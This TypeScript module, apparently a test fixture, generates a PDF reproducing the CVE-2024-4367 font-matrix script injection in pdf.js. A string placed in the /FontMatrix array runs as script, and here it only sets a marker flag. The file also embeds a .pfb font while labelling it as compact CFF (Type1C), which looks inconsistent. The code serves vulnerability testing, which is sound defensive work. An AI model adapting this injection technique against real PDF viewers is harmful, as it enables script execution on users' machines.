// A PDF crafted like the CVE-2024-4367 proof of concept: an embedded Type1 (CFF) font whose /FontMatrix
// ends with a string instead of a number. pdf.js up to 4.1 pasted the matrix into the source of a
// glyph-drawing function built with `new Function` (with isEvalSupported on), so the string ran as
// script. The text is drawn with render mode 4 (fill, then add to the clip path), which makes
// pdf.js draw glyphs as paths: the vulnerable code path. If the payload runs, it sets
// `window.__fontMatrixInjection`.
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';

/** A real Type1 font program in its compact form (CFF): pdf.js's own Foxit Serif. */
function type1cFont(): Buffer {
  const require = createRequire(import.meta.url);
  return readFileSync(join(dirname(require.resolve('pdfjs-dist/package.json')), 'standard_fonts', 'FoxitSerif.pfb'));
}

export function fontMatrixInjectionPdf(): Buffer {
  const font = type1cFont();
  const content = Buffer.from('BT /F1 18 Tf 72 640 Td (A harmless looking page.) Tj ET BT /F1 36 Tf 4 Tr 72 700 Td (Font matrix test) Tj ET\n');
  const payload = '(1\\); window.__fontMatrixInjection = true; //)';
  const objects: Buffer[] = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from('<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    Buffer.from('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>'),
    Buffer.concat([Buffer.from(`<< /Length ${content.length} >>\nstream\n`), content, Buffer.from('endstream')]),
    Buffer.from(
      `<< /Type /Font /Subtype /Type1 /BaseFont /FoxitSerif /FirstChar 32 /LastChar 126 /FontDescriptor 6 0 R /FontMatrix [0.001 0 0 0.001 0 ${payload}] >>`,
    ),
    Buffer.from(
      '<< /Type /FontDescriptor /FontName /FoxitSerif /Flags 34 /FontBBox [-200 -250 1100 950] /ItalicAngle 0 /Ascent 900 /Descent -250 /CapHeight 700 /StemV 80 /FontFile3 7 0 R >>',
    ),
    Buffer.concat([Buffer.from(`<< /Length ${font.length} /Subtype /Type1C >>\nstream\n`), font, Buffer.from('\nendstream')]),
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  objects.forEach((body, i) => {
    offsets.push(length);
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(object);
    length += object.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}
